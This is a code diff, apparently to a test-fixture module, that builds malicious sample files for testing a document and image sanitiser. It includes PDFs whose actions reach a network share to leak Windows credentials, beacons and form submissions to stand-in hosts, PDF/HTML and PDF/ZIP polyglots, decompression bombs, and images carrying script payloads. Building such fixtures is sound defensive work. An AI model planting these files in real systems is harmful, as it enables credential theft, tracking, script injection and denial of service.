@@ -5,9 +5,11 @@ pypdf's PdfWriter (or pydyf, for object streams); the malformed or hand-tuned on
 ``hand_pdf``, which writes the objects given with a correct cross-reference table.
 """
 
+import functools
 import io
 import re
 import struct
+import zipfile
 import zlib
 
 import pydyf
@@ -148,7 +150,8 @@ def pdf_object_stream_renumbered(count: int) -> bytes:
     start = data.index(b"stream\n", found.end()) + len(b"stream\n")
     content = zlib.decompress(data[start : start + length])
     pairs = content[:first].split()
-    pairs[0::2] = [b"%d" % (int(number) + 1_000_000) for number in pairs[0::2]]
+    # The page tree's objects keep their numbers (the page count reads them), the rest do not.
+    pairs[8::2] = [b"%d" % (int(number) + 1_000_000) for number in pairs[8::2]]
     header = b" ".join(pairs) + b" "
     stream = zlib.compress(header + content[first:])
     dictionary = b"/Type /ObjStm/N %d/First %d/Filter /FlateDecode/Length %d" % (
@@ -285,6 +288,214 @@ def pdf_with_link() -> bytes:
     )
 
 
+def pdf_link_action(action: bytes) -> bytes:
+    """A page with one link annotation whose action is ``action``."""
+    return hand_pdf(
+        page=b"/Annots [4 0 R] ",
+        more=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A %s >>" % action,),
+    )
+
+
+def pdf_link(uri: bytes) -> bytes:
+    """A link annotation to ``uri`` (a PDF string, with its delimiters)."""
+    return pdf_link_action(b"<< /S /URI /URI %s >>" % uri)
+
+
+def pdf_link_indirect(uri: bytes) -> bytes:
+    """A link whose address is an object of its own (a scan of the annotation alone sees a
+    reference)."""
+    return hand_pdf(
+        page=b"/Annots [4 0 R] ",
+        more=(
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI 5 0 R >> >>",
+            uri,
+        ),
+    )
+
+
+def pdf_internal_link() -> bytes:
+    """A link to the document's own first page (/GoTo): allowed."""
+    return pdf_link_action(b"<< /S /GoTo /D [3 0 R /Fit] >>")
+
+
+def pdf_page_opens_uri() -> bytes:
+    """The page opens an outside address by itself when it is shown (a tracking beacon)."""
+    return hand_pdf(page=b"/AA << /O << /S /URI /URI (https://tracker.example/seen) >> >> ")
+
+
+def pdf_open_action_gotor_unc() -> bytes:
+    """On opening, go to a PDF on a network share: a Windows reader connects to it and hands
+    over the user's credentials."""
+    return hand_pdf(
+        catalog=b"/OpenAction << /S /GoToR /D [0 /Fit] "
+        b"/F (\\\\\\\\203.0.113.9\\\\share\\\\x.pdf) >> "
+    )
+
+
+def pdf_submit_form() -> bytes:
+    """A button that sends the form's fields to an outside address."""
+    return hand_pdf(
+        catalog=b"/AcroForm << /Fields [4 0 R] >> ",
+        page=b"/Annots [4 0 R] ",
+        more=(
+            b"<< /FT /Btn /Ff 65536 /T (send) /Type /Annot /Subtype /Widget /Rect [0 0 80 20] "
+            b"/A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/in) >> >> >>",
+        ),
+    )
+
+
+def pdf_import_data_unc() -> bytes:
+    """On opening, import form data from a network share."""
+    return hand_pdf(
+        catalog=b"/OpenAction << /S /ImportData /F (\\\\\\\\203.0.113.9\\\\share\\\\d.fdf) >> "
+    )
+
+
+def pdf_named_menu_command() -> bytes:
+    """A link that runs a command of the reader's menus."""
+    return pdf_link_action(b"<< /S /Named /N /SaveAs >>")
+
+
+def pdf_open_action_goto() -> bytes:
+    """On opening, show the first page fitted to the window: allowed."""
+    return hand_pdf(catalog=b"/OpenAction [3 0 R /Fit] ")
+
+
+def pdf_link_behind_deep_nesting(uri: bytes) -> bytes:
+    """A link pypdf never sees: the catalogue's dictionary nested 3,000 deep before it."""
+    return hand_pdf(
+        catalog=b"/X "
+        + b"<< /A " * 3000
+        + b"1"
+        + b" >>" * 3000
+        + b" /Y << /S /URI /URI %s >> " % uri
+    )
+
+
+def pdf_with_html_after_end() -> bytes:
+    """A real PDF that is also a web page: the markup after %%EOF (a PDF reader stops there, a
+    browser renders it)."""
+    return pdf_minimal() + b"<html><body><script>alert(document.domain)</script></body></html>\n"
+
+
+def pdf_with_html_comment() -> bytes:
+    """A web page in a PDF comment right after the header."""
+    data = pdf_minimal()
+    header_end = data.index(b"\n") + 1
+    return (
+        data[:header_end]
+        + b"%<html><script>alert(document.domain)</script></html>\n"
+        + _shift_xref(data[header_end:], 54)
+    )
+
+
+def _shift_xref(body: bytes, by: int) -> bytes:
+    """The cross-reference offsets of ``body`` moved by ``by`` bytes (after an insertion)."""
+    xref_start = body.rindex(b"\nxref\n") + 1
+    table, rest = body[xref_start:].split(b"trailer", 1)
+    table = re.sub(
+        rb"(\d{10}) (\d{5}) n", lambda m: b"%010d %s n" % (int(m.group(1)) + by, m.group(2)), table
+    )
+    rest = re.sub(rb"startxref\s+(\d+)", lambda m: b"startxref\n%d" % (int(m.group(1)) + by), rest)
+    return body[:xref_start] + table + b"trailer" + rest
+
+
+def zip_archive() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("run.html", "<script>alert(document.domain)</script>")
+    return out.getvalue()
+
+
+def pdf_with_zip_after_end() -> bytes:
+    """A real PDF that is also a ZIP archive (ZIP readers look for the archive from the end)."""
+    return pdf_minimal() + zip_archive()
+
+
+def pdf_with_zip_before_end() -> bytes:
+    """The archive in a comment before the cross-reference table, its end record's comment
+    covering the rest of the file: nothing follows %%EOF, and it is still a ZIP archive."""
+    archive = bytearray(zip_archive())
+    data = hand_pdf(orphans=b"%" + bytes(archive) + b"\n")
+    tail = len(data) - (data.index(bytes(archive)) + len(archive))
+    archive[-2:] = struct.pack("<H", tail)  # the end record's comment length
+    return hand_pdf(orphans=b"%" + bytes(archive) + b"\n")
+
+
+def pdf_page_count_claim(count: int = 2_147_483_647) -> bytes:
+    """One page, in a page tree that declares ``count``."""
+    return hand_pdf(pages=b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count)
+
+
+def pdf_pages_twice() -> bytes:
+    """The page tree names its one page twice: a reader shows (and counts) two."""
+    return hand_pdf(pages=b"<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>")
+
+
+def pdf_many_pages(count: int) -> bytes:
+    """A real PDF of ``count`` blank pages, written directly (pypdf takes minutes for 60,000)."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = [len(out)]
+    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+    offsets.append(len(out))
+    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
+    out += b"2 0 obj\n<< /Type /Pages /Count %d /Kids [%s] >>\nendobj\n" % (count, kids)
+    for number in range(3, count + 3):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n" % (
+            number
+        )
+    xref_at = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(offsets) + 1,
+        xref_at,
+    )
+    return bytes(out)
+
+
+def _deflated_zeros(size: int, *, header: bool = True) -> bytes:
+    """``size`` zero bytes compressed with zlib (about 1,000 to 1: 1 GiB is about 1 MB), or as
+    raw deflate data without the zlib header (``header=False``)."""
+    compressor = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS if header else -zlib.MAX_WBITS)
+    block = bytes(1024 * 1024)
+    parts = [compressor.compress(block) for _ in range(size // len(block))]
+    parts.append(compressor.compress(bytes(size % len(block))))
+    parts.append(compressor.flush())
+    return b"".join(parts)
+
+
+def pdf_with_stream(content: bytes, filters: bytes = b"/FlateDecode") -> bytes:
+    """One page whose content stream is ``content`` (already encoded by ``filters``)."""
+    return hand_pdf(
+        page=b"/Contents 4 0 R ",
+        more=(
+            b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream"
+            % (len(content), filters, content),
+        ),
+    )
+
+
+@functools.cache
+def pdf_inflating_to(size: int) -> bytes:
+    """A PDF whose content stream inflates to ``size`` bytes (1 GiB: a file of about 1 MB)."""
+    return pdf_with_stream(_deflated_zeros(size))
+
+
+@functools.cache
+def pdf_inflating_raw_to(size: int) -> bytes:
+    """The same with raw deflate data (no zlib header), which readers inflate too."""
+    return pdf_with_stream(_deflated_zeros(size, header=False))
+
+
+@functools.cache
+def pdf_inflating_twice_to(size: int) -> bytes:
+    """A content stream deflated twice (/Filter [/FlateDecode /FlateDecode]): 1 GiB from a few
+    kilobytes."""
+    return pdf_with_stream(zlib.compress(_deflated_zeros(size), 9), b"[/FlateDecode /FlateDecode]")
+
+
 # --- images --------------------------------------------------------------------------------
 
 
@@ -343,3 +554,36 @@ def png_truncated() -> bytes:
 def jpeg_truncated() -> bytes:
     data = jpeg_photo()
     return data[: len(data) // 2]
+
+
+SCRIPT = b"<script>alert(document.domain)</script>"
+
+
+def png_with_trailing_script() -> bytes:
+    """A real PNG with a script after its end chunk."""
+    return png_scan() + SCRIPT
+
+
+def png_with_text_chunk() -> bytes:
+    """A real PNG with a script in a tEXt chunk (before its end chunk)."""
+    data = png_scan()
+    end = data.rindex(b"IEND") - 4
+    return data[:end] + _png_chunk(b"tEXt", b"Comment\x00" + SCRIPT) + data[end:]
+
+
+def jpeg_with_trailing_script_and_comment() -> bytes:
+    """A real JPEG with a script in a comment segment and another after its end marker."""
+    data = jpeg_photo()
+    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
+    return data[:2] + comment + data[2:] + SCRIPT
+
+
+def jpeg_turned(orientation: int = 6) -> bytes:
+    """A JPEG 64 wide and 48 high whose EXIF says to show it turned (6: 90 degrees clockwise),
+    with a place name in its EXIF as a phone would write."""
+    exif = Image.Exif()
+    exif[0x0112] = orientation
+    exif[0x010E] = "Beijing, 39.9042N 116.4074E"  # ImageDescription
+    out = io.BytesIO()
+    _gradient(64, 48).save(out, "JPEG", exif=exif.tobytes())
+    return out.getvalue()
